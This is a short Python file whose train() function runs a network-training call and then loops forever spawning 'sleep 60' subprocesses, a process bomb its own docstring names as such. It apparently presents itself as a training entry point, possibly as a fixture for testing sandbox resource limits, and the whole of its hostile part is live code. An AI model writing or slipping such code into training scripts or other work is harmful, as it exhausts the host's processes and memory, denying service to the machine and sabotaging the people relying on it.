"""A bomb of processes that live on."""

import subprocess

from honest import train_network


def train(task):
    train_network(task)
    kept = []
    while True:
        kept.append(subprocess.Popen(["sleep", "60"]))
